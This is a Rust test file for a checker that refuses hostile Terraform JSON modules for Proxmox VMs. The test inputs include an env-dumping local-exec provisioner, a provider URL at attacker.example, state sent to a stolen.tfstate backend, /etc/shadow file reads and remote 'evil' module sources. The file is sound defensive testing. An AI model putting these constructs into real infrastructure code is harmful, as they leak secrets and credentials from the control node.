//! The module-content check: what cradle's renderer writes passes, and each
//! construct a hostile plugin used (issue 32, section 1) is refused, naming
//! the file and the JSON path.

use serde_json::{Value, json};

use super::Flavour;
use super::module_check::{ModuleVm, TemplateRef, check};
use cradle_terraform_logic::render::{self, DiskInput, NicInput, SnippetRefs, VmInput};

fn input() -> VmInput {
    VmInput {
        name: "web-1".into(),
        vmid: 150,
        template: "debian-12".into(),
        template_vmid: 9000,
        template_node: "pve1".into(),
        storage: "local-lvm".into(),
        cores: 2,
        memory_mib: 2048,
        disk_gib: Some(20),
        disks: vec![DiskInput { slot: "scsi1".into(), storage: "data".into(), size_gib: 50 }],
        nics: vec![NicInput { slot: "net0".into(), bridge: "vmbr0".into(), vlan: Some(20) }],
        tags: vec!["web".into()],
        snippets: Some(SnippetRefs {
            user: "local:snippets/web-1-user.yaml".into(),
            network: "local:snippets/web-1-network.yaml".into(),
            meta: None,
        }),
    }
}

fn logic(f: Flavour) -> cradle_terraform_logic::Flavour {
    match f {
        Flavour::Telmate => cradle_terraform_logic::Flavour::Telmate,
        Flavour::Bpg => cradle_terraform_logic::Flavour::Bpg,
    }
}

/// The rendered telmate module as JSON, to tamper with.
fn rendered(f: Flavour) -> Value {
    serde_json::from_str(&render::render(logic(f), &input())).expect("rendered JSON")
}

fn files(v: &Value) -> Vec<(String, String)> {
    vec![("main.tf.json".into(), v.to_string())]
}

/// The refusal's message for module `v` (telmate).
fn refused(v: &Value) -> String {
    check(Flavour::Telmate, &files(v)).expect_err("refused").to_string()
}

fn vm(v: &mut Value) -> &mut Value {
    &mut v["resource"]["proxmox_vm_qemu"]["vm"]
}

#[test]
fn the_rendered_module_of_each_flavour_passes_with_its_vm() {
    let telmate = check(Flavour::Telmate, &files(&rendered(Flavour::Telmate))).expect("telmate");
    assert_eq!(
        telmate,
        ModuleVm {
            vmid: 150,
            node: "pve1".into(),
            storages: vec!["local-lvm".into(), "local-lvm".into(), "data".into()],
            template: TemplateRef::Name("debian-12".into()),
            cicustom: Some("user=local:snippets/web-1-user.yaml,network=local:snippets/web-1-network.yaml".into()),
        }
    );
    let bpg = check(Flavour::Bpg, &files(&rendered(Flavour::Bpg))).expect("bpg");
    assert_eq!((bpg.vmid, bpg.template), (150, TemplateRef::Vmid(9000)));
    assert_eq!(bpg.storages, ["local-lvm", "data", "local-lvm"]);
    assert_eq!(bpg.cicustom, telmate.cicustom, "bpg's snippet file ids read as the same cicustom value");
}

#[test]
fn the_snippets_a_module_names_are_read_for_the_proxmox_grant_check() {
    let mut m = rendered(Flavour::Bpg);
    m["resource"]["proxmox_virtual_environment_vm"]["vm"]["initialization"][0]["user_data_file_id"] =
        json!("local:snippets/prod-db-user.yaml");
    let bpg = check(Flavour::Bpg, &files(&m)).expect("a well-formed module");
    assert!(bpg.cicustom.is_some_and(|c| c.contains("user=local:snippets/prod-db-user.yaml")));
    let mut m = rendered(Flavour::Telmate);
    vm(&mut m)["cicustom"] = json!(7);
    assert!(refused(&m).contains("$.resource.proxmox_vm_qemu.vm.cicustom"));
}

#[test]
fn a_module_of_the_other_flavour_is_refused() {
    let err = check(Flavour::Bpg, &files(&rendered(Flavour::Telmate))).expect_err("refused").to_string();
    assert!(
        err.contains("$.resource.proxmox_vm_qemu") && err.contains("only `proxmox_virtual_environment_vm`"),
        "{err}"
    );
}

#[test]
fn a_provisioner_is_refused() {
    let mut m = rendered(Flavour::Telmate);
    vm(&mut m)["provisioner"] = json!([{ "local-exec": { "command": "env > /tmp/x" } }]);
    let err = refused(&m);
    assert!(err.contains("main.tf.json") && err.contains("$.resource.proxmox_vm_qemu.vm.provisioner"), "{err}");
}

#[test]
fn a_terraform_data_resource_is_refused() {
    let mut m = rendered(Flavour::Telmate);
    m["resource"]["terraform_data"] = json!({ "x": { "input": "a" } });
    let err = refused(&m);
    assert!(err.contains("$.resource.terraform_data") && err.contains("only `proxmox_vm_qemu`"), "{err}");
}

#[test]
fn other_providers_are_refused() {
    for provider in ["external", "local", "http", "null"] {
        let mut m = rendered(Flavour::Telmate);
        m["provider"][provider] = json!({});
        let err = refused(&m);
        assert!(err.contains(&format!("$.provider.{provider}")), "{provider}: {err}");
        let mut m = rendered(Flavour::Telmate);
        m["terraform"]["required_providers"][provider] = json!({ "source": format!("hashicorp/{provider}") });
        assert!(refused(&m).contains(&format!("$.terraform.required_providers.{provider}")), "{provider}");
    }
    let mut m = rendered(Flavour::Telmate);
    m["provider"]["proxmox"] = json!({ "pm_api_url": "https://attacker.example/api2/json" });
    assert!(refused(&m).contains("$.provider.proxmox.pm_api_url"));
}

#[test]
fn a_backend_or_cloud_block_is_refused() {
    for block in ["backend", "cloud"] {
        let mut m = rendered(Flavour::Telmate);
        m["terraform"][block] = json!({ "local": { "path": "/tmp/stolen.tfstate" } });
        let err = refused(&m);
        assert!(err.contains(&format!("$.terraform.{block}")) && err.contains("no backend or cloud"), "{err}");
    }
}

#[test]
fn module_data_output_and_other_top_level_blocks_are_refused() {
    for block in ["module", "data", "output", "variable", "locals", "import", "moved", "check", "removed"] {
        let mut m = rendered(Flavour::Telmate);
        m[block] = json!({ "x": { "source": "git::https://example.com/evil" } });
        let err = refused(&m);
        assert!(err.contains(&format!("$.{block}")) && err.contains("not allowed"), "{block}: {err}");
    }
}

#[test]
fn a_function_reading_the_control_node_is_refused_wherever_it_is() {
    for expr in [
        "${file(\"/etc/shadow\")}",
        "${templatefile(\"/x\", {})}",
        "${abspath(\".\")}",
        "%{ for x in fileset(\"/\", \"*\") }x%{ endfor }",
    ] {
        let mut m = rendered(Flavour::Telmate);
        vm(&mut m)["tags"] = json!(expr);
        let err = refused(&m);
        assert!(err.contains("$.resource.proxmox_vm_qemu.vm.tags") && err.contains("template expression"), "{err}");
    }
    let mut m = rendered(Flavour::Telmate);
    vm(&mut m)["disk"][0]["storage"] = json!("${pathexpand(\"~\")}");
    assert!(refused(&m).contains("$.resource.proxmox_vm_qemu.vm.disk[0].storage"));
}

#[test]
fn other_resource_attributes_and_lifecycle_rules_are_refused() {
    for (key, value) in [
        ("connection", json!({ "host": "x" })),
        ("count", json!(2)),
        ("depends_on", json!([])),
        ("provider", json!("proxmox.other")),
    ] {
        let mut m = rendered(Flavour::Telmate);
        vm(&mut m)[key] = value;
        assert!(refused(&m).contains(&format!("$.resource.proxmox_vm_qemu.vm.{key}")), "{key}");
    }
    let mut m = rendered(Flavour::Telmate);
    vm(&mut m)["lifecycle"]["replace_triggered_by"] = json!(["x"]);
    assert!(refused(&m).contains("$.resource.proxmox_vm_qemu.vm.lifecycle.replace_triggered_by"));
}

#[test]
fn a_module_must_declare_exactly_one_vm_named_vm() {
    let mut none = rendered(Flavour::Telmate);
    none.as_object_mut().expect("object").remove("resource");
    assert!(refused(&none).contains("declares no proxmox_vm_qemu.vm"));
    let mut other = rendered(Flavour::Telmate);
    other["resource"]["proxmox_vm_qemu"]["evil"] = other["resource"]["proxmox_vm_qemu"]["vm"].clone();
    assert!(refused(&other).contains("$.resource.proxmox_vm_qemu.evil"));
    let two = vec![
        ("a.tf.json".to_string(), rendered(Flavour::Telmate).to_string()),
        ("b.tf.json".to_string(), rendered(Flavour::Telmate).to_string()),
    ];
    let err = check(Flavour::Telmate, &two).expect_err("two VMs").to_string();
    assert!(err.contains("b.tf.json") && err.contains("a second"), "{err}");
}

#[test]
fn a_file_that_is_not_plain_json_is_refused() {
    let err = check(Flavour::Telmate, &[("main.tf.json".into(), "resource \"null_resource\" \"x\" {}".into())])
        .expect_err("HCL")
        .to_string();
    assert!(err.contains("main.tf.json") && err.contains("not plain JSON"), "{err}");
    let err = check(Flavour::Telmate, &[("extra.tf".into(), "{}".into())]).expect_err("not .tf.json").to_string();
    assert!(err.contains("extra.tf") && err.contains("*.tf.json"), "{err}");
}

#[test]
fn a_vm_without_a_vmid_node_or_template_is_refused() {
    for key in ["vmid", "target_node", "clone"] {
        let mut m = rendered(Flavour::Telmate);
        vm(&mut m).as_object_mut().expect("object").remove(key);
        assert!(refused(&m).contains(&format!("$.resource.proxmox_vm_qemu.vm.{key}")), "{key}");
    }
}
